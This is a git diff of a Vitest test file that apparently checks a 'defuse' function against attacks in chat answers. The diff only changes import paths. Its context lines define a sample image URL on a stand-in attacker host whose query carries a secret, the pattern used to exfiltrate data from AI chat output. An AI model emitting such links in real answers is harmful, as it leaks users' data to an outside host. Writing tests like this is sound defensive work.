@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { defuse, tangledMark } from '../../../../../src/main/hub/platforms/defuse.ts';
-import { attacks, traps } from '../../chat/answer/attacks.ts';
-import { renderers } from '../../chat/answer/renderers.ts';
+import { defuse, tangledMark } from '../../../../src/main/hub/platforms/defuse.ts';
+import { attacks, traps } from '../chat/answer/attacks.ts';
+import { renderers } from '../chat/answer/renderers.ts';
 
 const evil = 'https://evil.example/p.png?d=SECRET';
 const mark = '[image: x, from evil.example]';
